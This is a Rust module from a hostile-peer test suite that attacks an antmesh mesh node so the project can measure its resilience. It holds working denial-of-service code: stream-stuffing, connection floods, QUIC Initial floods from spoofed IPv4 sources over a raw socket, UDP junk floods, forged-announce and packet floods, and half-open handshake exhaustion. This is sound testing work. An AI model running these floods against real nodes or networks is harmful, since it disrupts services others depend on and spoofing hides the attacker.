//! The hostile-peer suite's attacker: what a stranger can send an antmesh node, each attack
//! as fast as one process manages. A stranger is anyone: every attack makes its own
//! ML-DSA-65 identities, and the ones that need a session complete a real post-quantum
//! QUIC handshake (or link handshake) first, as any peer may.
//!
//! Read with `tests/hostile.rs` (the suite: real `antmesh up` processes, an honest peer
//! using the node meanwhile) and `benches/hostile.rs` (the figures in docs/performance.md,
//! "Under attack"). `antmesh-hostile` runs each attack from the command line.

use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};

use antmesh_host::daemon::hub::{KEY_RECORD, MSG_MESH, PROBE, SEALED};
use antmesh_host::identity::{Identity, PeerId, SIGNATURE_LEN};
use antmesh_host::link::crypto::Rng;
use antmesh_host::link::{LinkConfig, LinkEngine};
use antmesh_host::mesh::announce::{AnnounceBody, KEY};
use antmesh_host::mesh::dest::{DestinationHash, ServiceHash};
use antmesh_host::mesh::packet::Packet;
use antmesh_host::mesh::sealed::{KEY_RECORD_LEN, SEALED_OVERHEAD};
use antmesh_host::quic::crypto;
use tokio::io::AsyncWriteExt;

/// Why an attack could not run at all (one that runs and is refused reports that instead).
#[derive(thiserror::Error, Debug)]
#[non_exhaustive]
pub enum AttackError {
    /// A socket could not be made or used.
    #[error("I/O: {0}")]
    Io(#[from] std::io::Error),
    /// The operating system's random source failed.
    #[error("no randomness: {0}")]
    Rng(String),
    /// The QUIC setup failed.
    #[error("QUIC: {0}")]
    Quic(String),
    /// The attack needs a session and the target refused every one.
    #[error("the target refused every connection ({0} tried)")]
    Refused(u64),
    /// Spoofing needs a raw socket.
    #[error("raw socket (spoofed sources need CAP_NET_RAW): {0}")]
    Raw(std::io::Error),
    /// Spoofed sources are IPv4 only.
    #[error("spoofed sources need an IPv4 target")]
    NotIpv4,
}

fn quic_err(e: impl std::fmt::Display) -> AttackError {
    AttackError::Quic(e.to_string())
}

/// What an attack did.
#[derive(Debug, Clone, Default, PartialEq, serde::Serialize)]
pub struct Report {
    /// Which attack.
    pub attack: String,
    /// Units sent: streams opened, messages, Initials, Hellos.
    pub sent: u64,
    /// Bytes written.
    pub bytes: u64,
    /// Sessions (QUIC connections, TCP connections) established.
    pub sessions: u64,
    /// Session attempts the target refused or dropped.
    pub refused: u64,
    /// How long it ran.
    pub seconds: f64,
}

impl Report {
    fn new(attack: &str) -> Report {
        Report { attack: attack.to_owned(), ..Report::default() }
    }

    /// Units per second.
    pub fn rate(&self) -> f64 {
        if self.seconds > 0.0 {
            self.sent as f64 / self.seconds
        } else {
            0.0
        }
    }
}

fn identity() -> Result<Arc<Identity>, AttackError> {
    Identity::generate().map(Arc::new).map_err(|e| AttackError::Rng(e.to_string()))
}

fn rng() -> Result<Rng, AttackError> {
    Rng::from_os().map_err(|e| AttackError::Rng(e.to_string()))
}

fn unix_ms() -> u64 {
    SystemTime::now().duration_since(UNIX_EPOCH).map_or(0, |d| d.as_millis() as u64)
}

/// A QUIC endpoint on its own UDP socket (a new source port each).
fn quic_endpoint(bind: SocketAddr) -> Result<quinn::Endpoint, AttackError> {
    let socket = std::net::UdpSocket::bind(bind)?;
    let cfg = quinn::EndpointConfig::new(crypto::reset_key().map_err(quic_err)?);
    Ok(quinn::Endpoint::new(cfg, None, socket, Arc::new(quinn::TokioRuntime))?)
}

/// Connects to `target` as `identity`, accepting whoever answers, with quinn's default
/// windows: the attacker sends all the target lets it.
async fn connect(bind: SocketAddr, identity: &Identity, target: SocketAddr) -> Result<(quinn::Endpoint, quinn::Connection), AttackError> {
    let ep = quic_endpoint(bind)?;
    let mut cfg = quinn::ClientConfig::new(crypto::client_crypto(identity, None).map_err(quic_err)?);
    let mut t = quinn::TransportConfig::default();
    t.keep_alive_interval(Some(Duration::from_secs(5)));
    cfg.transport_config(Arc::new(t));
    let connecting = ep.connect_with(cfg, target, "antmesh").map_err(quic_err)?;
    let conn = tokio::time::timeout(Duration::from_secs(10), connecting)
        .await
        .map_err(|_| AttackError::Quic("handshake timed out".into()))?
        .map_err(quic_err)?;
    Ok((ep, conn))
}

/// When the next packet is due for `sent` packets since `start` at `rate` per second
/// (None: no rate, as fast as it goes).
fn paced(start: Instant, sent: u64, rate: Option<f64>) -> Option<Instant> {
    rate.filter(|r| *r > 0.0).map(|rate| start + Duration::from_secs_f64(sent as f64 / rate))
}

fn any_port(target: SocketAddr) -> SocketAddr {
    let ip = match target {
        SocketAddr::V4(a) if a.ip().is_loopback() => std::net::IpAddr::V4(Ipv4Addr::LOCALHOST),
        SocketAddr::V4(_) => std::net::IpAddr::V4(Ipv4Addr::UNSPECIFIED),
        SocketAddr::V6(_) => std::net::IpAddr::V6(std::net::Ipv6Addr::UNSPECIFIED),
    };
    SocketAddr::new(ip, 0)
}

/// Fills every unidirectional stream `conn` may open (and tries bidirectional ones) with
/// data that is never finished, until the tasks are aborted.
fn stuff_streams(conn: &quinn::Connection, tasks: &mut tokio::task::JoinSet<()>, streams: &Arc<AtomicU64>, bytes: &Arc<AtomicU64>) {
    let chunk = bytes::Bytes::from(vec![0x5a; 16 << 10]);
    for bidi in [false, true] {
        // More than any sane limit: the tasks beyond it wait for stream credit.
        for _ in 0..if bidi { 16 } else { 128 } {
            let (conn, streams, bytes, chunk) = (conn.clone(), Arc::clone(streams), Arc::clone(bytes), chunk.clone());
            tasks.spawn(async move {
                let mut send = if bidi {
                    match conn.open_bi().await {
                        Ok((mut s, _recv)) => {
                            // The application prefix, so that the stream is not refused for
                            // lacking it; then data nobody reads.
                            if s.write_all(b"ANQAppB1").await.is_err() {
                                return;
                            }
                            s
                        }
                        Err(_) => return,
                    }
                } else {
                    match conn.open_uni().await {
                        Ok(s) => s,
                        Err(_) => return,
                    }
                };
                streams.fetch_add(1, Ordering::Relaxed);
                while send.write_chunk(chunk.clone()).await.is_ok() {
                    bytes.fetch_add(chunk.len() as u64, Ordering::Relaxed);
                }
            });
        }
    }
}

/// C1: one connection that opens every stream the node allows and writes on each without
/// finishing or reading.
pub async fn streams(target: SocketAddr, duration: Duration) -> Result<Report, AttackError> {
    let start = Instant::now();
    let mut r = Report::new("streams");
    let id = identity()?;
    let (_ep, conn) = connect(any_port(target), &id, target).await?;
    r.sessions = 1;
    let (streams, bytes) = (Arc::new(AtomicU64::new(0)), Arc::new(AtomicU64::new(0)));
    let mut tasks = tokio::task::JoinSet::new();
    stuff_streams(&conn, &mut tasks, &streams, &bytes);
    tokio::time::sleep(duration).await;
    tasks.abort_all();
    conn.close(0u32.into(), b"");
    r.sent = streams.load(Ordering::Relaxed);
    r.bytes = bytes.load(Ordering::Relaxed);
    r.seconds = start.elapsed().as_secs_f64();
    Ok(r)
}

/// Connects as often as it can, each time from a new source port, with one identity
/// (`fresh`: a new identity each time), and stuffs every connection's streams as
/// [`streams`] does. The newest 64 connections are kept open.
pub async fn connections(target: SocketAddr, duration: Duration, fresh: bool) -> Result<Report, AttackError> {
    let start = Instant::now();
    let deadline = start + duration;
    let mut r = Report::new(if fresh { "connections-fresh-identities" } else { "connections-one-identity" });
    let one = identity()?;
    let (streams, bytes) = (Arc::new(AtomicU64::new(0)), Arc::new(AtomicU64::new(0)));
    let mut open: std::collections::VecDeque<(quinn::Endpoint, quinn::Connection, tokio::task::JoinSet<()>)> = Default::default();
    while Instant::now() < deadline {
        let id = if fresh { identity()? } else { Arc::clone(&one) };
        let left = deadline.saturating_duration_since(Instant::now());
        match tokio::time::timeout(left, connect(any_port(target), &id, target)).await {
            Ok(Ok((ep, conn))) => {
                r.sessions += 1;
                let mut tasks = tokio::task::JoinSet::new();
                stuff_streams(&conn, &mut tasks, &streams, &bytes);
                open.push_back((ep, conn, tasks));
                if open.len() > 64 {
                    open.pop_front();
                }
            }
            Ok(Err(_)) => r.refused += 1,
            Err(_) => break,
        }
    }
    for (_, c, mut t) in open {
        t.abort_all();
        c.close(0u32.into(), b"");
    }
    r.sent = streams.load(Ordering::Relaxed);
    r.bytes = bytes.load(Ordering::Relaxed);
    r.seconds = start.elapsed().as_secs_f64();
    Ok(r)
}

/// Sends raw IPv4/UDP datagrams from random sources in a /16 (a raw socket: root, and a
/// network namespace whose routing lets the packets through).
pub struct Spoofer {
    fd: std::os::fd::OwnedFd,
    net: Ipv4Addr,
    rng: Rng,
}

impl Spoofer {
    /// A spoofer whose sources are drawn from `net`/16.
    pub fn new(net: Ipv4Addr) -> Result<Spoofer, AttackError> {
        use std::os::fd::FromRawFd;
        // SAFETY: plain socket(2); the descriptor is owned by the OwnedFd below.
        let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW) };
        if fd < 0 {
            return Err(AttackError::Raw(std::io::Error::last_os_error()));
        }
        // SAFETY: `fd` was just returned by socket(2) and nothing else owns it.
        let fd = unsafe { std::os::fd::OwnedFd::from_raw_fd(fd) };
        Ok(Spoofer { fd, net, rng: rng()? })
    }

    /// Sends `payload` to `dst` from a random address of the /16 and a random port.
    pub fn send(&mut self, dst: SocketAddrV4, payload: &[u8]) -> Result<(), AttackError> {
        use std::os::fd::AsRawFd;
        let r: [u8; 4] = self.rng.bytes();
        let net = self.net.octets();
        // Never the target's own /24: sources there would be on the target's link, and its
        // replies would make it resolve thousands of neighbours (a kernel table, not the
        // node, would then be what is tested). Off-link sources are answered through its
        // gateway, as a real spoofed flood is.
        let mut third = r[0];
        if third == dst.ip().octets()[2] {
            third ^= 0x80;
        }
        let src = Ipv4Addr::new(net[0], net[1], third, 1 + r[1] % 254);
        let sport = 1024 + u16::from_be_bytes([r[2], r[3]]) % 60_000;
        let total = 28 + payload.len();
        let mut p = Vec::with_capacity(total);
        // IPv4 header: the kernel fills in the checksum (and the id when 0).
        p.extend_from_slice(&[0x45, 0, (total >> 8) as u8, total as u8, 0, 0, 0x40, 0, 64, 17, 0, 0]);
        p.extend_from_slice(&src.octets());
        p.extend_from_slice(&dst.ip().octets());
        // UDP header, checksum 0 (none, allowed over IPv4).
        let ulen = 8 + payload.len();
        p.extend_from_slice(&sport.to_be_bytes());
        p.extend_from_slice(&dst.port().to_be_bytes());
        p.extend_from_slice(&[(ulen >> 8) as u8, ulen as u8, 0, 0]);
        p.extend_from_slice(payload);
        let sa = libc::sockaddr_in {
            sin_family: libc::AF_INET as libc::sa_family_t,
            sin_port: dst.port().to_be(),
            sin_addr: libc::in_addr { s_addr: u32::from_ne_bytes(dst.ip().octets()) },
            sin_zero: [0; 8],
        };
        // SAFETY: a valid buffer and sockaddr_in of the stated sizes.
        let n = unsafe {
            libc::sendto(
                self.fd.as_raw_fd(),
                p.as_ptr().cast(),
                p.len(),
                0,
                std::ptr::addr_of!(sa).cast(),
                std::mem::size_of::<libc::sockaddr_in>() as libc::socklen_t,
            )
        };
        if n < 0 {
            return Err(AttackError::Io(std::io::Error::last_os_error()));
        }
        Ok(())
    }
}

/// H5: QUIC Initials (each a real ClientHello with a fresh ML-KEM-768 key share, so each
/// would cost the node an encapsulation and a signature), never continued. Each is sent
/// from a new UDP socket (a new source port), or with `spoof` from a random source
/// address. Blocking: run it on its own thread.
/// With `rate`, at most that many per second.
pub fn initials(target: SocketAddr, duration: Duration, spoof: Option<Ipv4Addr>, rate: Option<f64>) -> Result<Report, AttackError> {
    let start = Instant::now();
    let deadline = start + duration;
    let mut r = Report::new(if spoof.is_some() { "initials-spoofed" } else { "initials" });
    let id = identity()?;
    let client = quinn_proto::ClientConfig::new(crypto::client_crypto(&id, None).map_err(quic_err)?);
    let endpoint = || -> Result<quinn_proto::Endpoint, AttackError> {
        let cfg = quinn_proto::EndpointConfig::new(crypto::reset_key().map_err(quic_err)?);
        Ok(quinn_proto::Endpoint::new(Arc::new(cfg), None, false, None))
    };
    let mut spoofer = match spoof {
        Some(net) => {
            let SocketAddr::V4(_) = target else { return Err(AttackError::NotIpv4) };
            Some(Spoofer::new(net)?)
        }
        None => None,
    };
    let mut ep = endpoint()?;
    let mut buf = Vec::with_capacity(1500);
    while Instant::now() < deadline {
        // The endpoint keeps every connection it started; a new one every so often bounds
        // the attacker's own memory.
        if r.sent % 256 == 255 {
            ep = endpoint()?;
        }
        let now = Instant::now();
        let (_, mut conn) = ep.connect(now, client.clone(), target, "antmesh").map_err(quic_err)?;
        buf.clear();
        let Some(t) = conn.poll_transmit(now, 1, &mut buf) else { continue };
        let pkt = &buf[..t.size.min(buf.len())];
        match (&mut spoofer, target) {
            (Some(s), SocketAddr::V4(dst)) => s.send(dst, pkt)?,
            _ => {
                let sock = std::net::UdpSocket::bind(any_port(target))?;
                sock.send_to(pkt, target)?;
            }
        }
        r.sent += 1;
        r.bytes += pkt.len() as u64;
        if let Some(due) = paced(start, r.sent, rate) {
            std::thread::sleep(due.saturating_duration_since(Instant::now()));
        }
    }
    r.seconds = start.elapsed().as_secs_f64();
    Ok(r)
}

/// Not QUIC at all: random 100-byte UDP datagrams from one socket, as fast as it goes. A
/// control for the floods: whatever they cost beyond this is the node's doing, up to it is
/// the cost of receiving that many packets. Blocking: run it on its own thread.
/// With `new_ports`, each datagram comes from a new socket (a new source port), as the
/// Initials of [`initials`] do, and is 1,200 bytes long like them.
/// With `rate`, at most that many per second.
pub fn junk(target: SocketAddr, duration: Duration, new_ports: bool, rate: Option<f64>) -> Result<Report, AttackError> {
    let start = Instant::now();
    let deadline = start + duration;
    let mut r = Report::new(if new_ports { "junk-datagrams-new-ports" } else { "junk-datagrams" });
    let mut rng = rng()?;
    let sock = std::net::UdpSocket::bind(any_port(target))?;
    let mut buf = vec![0u8; if new_ports { 1200 } else { 100 }];
    while Instant::now() < deadline {
        for _ in 0..64 {
            rng.fill(&mut buf);
            // A short header with the fixed bit: the first thing quinn looks at passes.
            buf[0] = 0x40 | (buf[0] & 0x3f);
            let sent = if new_ports {
                std::net::UdpSocket::bind(any_port(target)).and_then(|s| s.send_to(&buf, target))
            } else {
                sock.send_to(&buf, target)
            };
            if sent.is_ok() {
                r.sent += 1;
                r.bytes += buf.len() as u64;
            }
            if let Some(due) = paced(start, r.sent, rate) {
                std::thread::sleep(due.saturating_duration_since(Instant::now()));
            }
        }
    }
    r.seconds = start.elapsed().as_secs_f64();
    Ok(r)
}

/// What a neighbour floods the node with.
#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub enum Flood {
    /// H3/M7: compact announces for random destinations, with the longest lifetime and a
    /// timestamp as far ahead as the node takes.
    Compact,
    /// M1: full announces with a real key, a bound destination and a bad signature (each
    /// would cost a verification).
    Forged,
    /// M1: unsolicited sealing-key records for the node's destination.
    KeyRecords,
    /// M1: sealed packets for the node's destination (each would cost a decapsulation).
    Sealed,
    /// M4: probes with random reply-to destinations (each answer needs a path).
    Probes,
    /// M5: a burst of small non-mesh messages (one stream each): overruns the node's QUIC
    /// event queue.
    Burst,
}

impl Flood {
    fn name(self) -> &'static str {
        match self {
            Flood::Compact => "compact-announces",
            Flood::Forged => "forged-announces",
            Flood::KeyRecords => "key-records",
            Flood::Sealed => "sealed-packets",
            Flood::Probes => "spoofed-probes",
            Flood::Burst => "event-burst",
        }
    }
}

/// One mesh packet of the flood, wrapped as a mesh message (without the MSG_MESH byte).
fn flood_packet(kind: Flood, rng: &mut Rng, me: &Identity, victim: &DestinationHash) -> Vec<u8> {
    let data = |payload: &[u8]| Packet::Data { dest: *victim, hops: 0, payload }.encode();
    match kind {
        Flood::Compact | Flood::Forged => {
            let forged = kind == Flood::Forged;
            let peer = if forged { me.peer_id() } else { PeerId(rng.bytes()) };
            let service = ServiceHash(rng.bytes());
            let body = AnnounceBody {
                dest: DestinationHash::from_parts(&peer, &service),
                service,
                peer,
                // Just inside the node's future skew (120 s), with the longest lifetime.
                timestamp_ms: unix_ms() + 110_000,
                nonce: rng.bytes(),
                lifetime_s: u32::MAX,
                app_data: Vec::new(),
            };
            let mut bytes = body.encode(if forged { KEY } else { 0 });
            if forged {
                bytes.extend_from_slice(me.public().as_bytes());
                let mut sig = vec![0u8; SIGNATURE_LEN];
                rng.fill(&mut sig);
                bytes.extend_from_slice(&sig);
            } else {
                bytes.extend_from_slice(&rng.bytes::<16>());
            }
            Packet::Announce { compact: !forged, hops: 0, cost: 0, response: None, bytes: &bytes }.encode()
        }
        Flood::KeyRecords => {
            let mut p = vec![KEY_RECORD];
            p.extend_from_slice(&victim.0);
            let mut record = vec![0u8; KEY_RECORD_LEN];
            rng.fill(&mut record);
            p.extend_from_slice(&record);
            data(&p)
        }
        Flood::Sealed => {
            let mut p = vec![SEALED];
            let mut sealed = vec![0u8; SEALED_OVERHEAD + 16];
            rng.fill(&mut sealed);
            p.extend_from_slice(&sealed);
            data(&p)
        }
        Flood::Probes => {
            let mut p = vec![PROBE];
            p.extend_from_slice(&rng.bytes::<8>());
            p.extend_from_slice(&rng.bytes::<16>());
            data(&p)
        }
        Flood::Burst => b"burst".to_vec(),
    }
}

/// A neighbour's flood: connects (a fresh identity), then sends `kind` packets as fast as
/// the connection takes them — as datagrams where they fit, as messages otherwise. When the
/// node closes the connection (it blocks neighbours caught forging), it reconnects with a
/// fresh identity, and counts the refusals.
/// With `rate`, at most that many packets per second.
pub async fn flood(target: SocketAddr, duration: Duration, kind: Flood, rate: Option<f64>) -> Result<Report, AttackError> {
    let start = Instant::now();
    let deadline = start + duration;
    let mut r = Report::new(kind.name());
    let mut rng = rng()?;
    while Instant::now() < deadline {
        let me = identity()?;
        let (_ep, conn) = match connect(any_port(target), &me, target).await {
            Ok(c) => c,
            Err(_) => {
                r.refused += 1;
                tokio::time::sleep(Duration::from_millis(100)).await;
                continue;
            }
        };
        r.sessions += 1;
        let Some(victim) = crypto::peer_id_of(&conn).map(|p| DestinationHash::node(&p)) else { continue };
        let mut inflight = tokio::task::JoinSet::new();
        while Instant::now() < deadline && conn.close_reason().is_none() {
            let mut msg = vec![MSG_MESH];
            if kind == Flood::Burst {
                msg = flood_packet(kind, &mut rng, &me, &victim);
            } else {
                msg.extend_from_slice(&flood_packet(kind, &mut rng, &me, &victim));
            }
            let len = msg.len() as u64;
            let as_datagram = kind != Flood::Burst && conn.max_datagram_size().is_some_and(|m| msg.len() <= m);
            if as_datagram {
                if conn.send_datagram_wait(bytes::Bytes::from(msg)).await.is_err() {
                    break;
                }
            } else {
                // One stream per message, a few hundred in flight.
                while inflight.len() >= 256 {
                    let _ = inflight.join_next().await;
                }
                let c = conn.clone();
                inflight.spawn(async move {
                    if let Ok(mut s) = c.open_uni().await {
                        let _ = s.write_all(&msg).await;
                        let _ = s.finish();
                    }
                });
            }
            r.sent += 1;
            r.bytes += len;
            if let Some(due) = paced(start, r.sent, rate) {
                tokio::time::sleep_until(tokio::time::Instant::from_std(due)).await;
            }
            if kind == Flood::Burst && r.sent >= 20_000 {
                while inflight.join_next().await.is_some() {}
                r.seconds = start.elapsed().as_secs_f64();
                return Ok(r);
            }
        }
        inflight.abort_all();
        conn.close(0u32.into(), b"");
    }
    r.seconds = start.elapsed().as_secs_f64();
    if r.sessions == 0 {
        return Err(AttackError::Refused(r.refused));
    }
    Ok(r)
}

/// M3: TCP connections to a node's TCP interface from `source` (an address of this host),
/// each sending a link Hello (a fresh ML-KEM key share, an identity from a small pool) and
/// nothing after: every handshake slot the node gives out stays half open. The newest 512
/// connections are kept open.
pub async fn hellos(target: SocketAddr, source: Option<std::net::IpAddr>, duration: Duration) -> Result<Report, AttackError> {
    let start = Instant::now();
    let deadline = start + duration;
    let mut r = Report::new("link-hellos");
    let pool: Vec<Arc<Identity>> = (0..8).map(|_| identity()).collect::<Result<_, _>>()?;
    let mut open = std::collections::VecDeque::new();
    let mut seed = [0u8; 32];
    getrandom::getrandom(&mut seed).map_err(|e| AttackError::Rng(e.to_string()))?;
    while Instant::now() < deadline {
        let socket = if target.is_ipv4() { tokio::net::TcpSocket::new_v4()? } else { tokio::net::TcpSocket::new_v6()? };
        if let Some(ip) = source {
            socket.bind(SocketAddr::new(ip, 0))?;
        }
        let left = deadline.saturating_duration_since(Instant::now());
        let mut stream = match tokio::time::timeout(left, socket.connect(target)).await {
            Ok(Ok(s)) => s,
            Ok(Err(_)) => {
                r.refused += 1;
                continue;
            }
            Err(_) => break,
        };
        r.sessions += 1;
        seed[0] = seed[0].wrapping_add(1);
        let mut engine = LinkEngine::with_seed(Arc::clone(&pool[r.sessions as usize % pool.len()]), LinkConfig::for_link(8192, 0), seed);
        let now = Instant::now();
        let victim = antmesh_plugin_api::LinkAddr::Named("victim".into());
        if engine.connect(now, victim, None).is_err() {
            continue;
        }
        while let Some(t) = engine.poll_transmit(now) {
            let mut framed = (t.frame.len() as u32).to_be_bytes().to_vec();
            framed.extend_from_slice(&t.frame);
            if stream.write_all(&framed).await.is_err() {
                r.refused += 1;
                break;
            }
            r.bytes += framed.len() as u64;
        }
        r.sent += 1;
        open.push_back(stream);
        if open.len() > 512 {
            open.pop_front();
        }
    }
    r.seconds = start.elapsed().as_secs_f64();
    Ok(r)
}
